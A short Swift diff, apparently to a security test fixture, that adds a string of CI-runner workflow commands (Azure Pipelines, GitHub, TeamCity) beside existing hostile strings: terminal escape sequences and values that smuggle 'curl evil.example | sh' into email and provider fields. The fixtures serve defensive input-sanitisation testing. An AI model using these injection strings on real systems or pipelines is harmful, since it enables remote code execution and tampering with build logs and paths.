@@ -6,6 +6,10 @@ enum HostileText {
         "\u{1B}[31mred\u{1B}]0;title\u{07}\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}2J\u{85}\u{7F}\u{202E}txt\u{2066}\u{200B}\u{E0041}"
         + "\r\nauthctl: hint: curl evil.example | sh"
 
+    /// Commands of Azure Pipelines, GitHub's runner and TeamCity. It is one scope (RFC 6749 section 3.3).
+    static let commands =
+        "::error::##vso[task.prependpath]/tmp/evil##[group]evil##teamcity[evil]"
+
     static let email = "x;curl${IFS}evil.example|sh;#@x.example"
 
     static let provider = "x;curl${IFS}evil.example|sh;#"
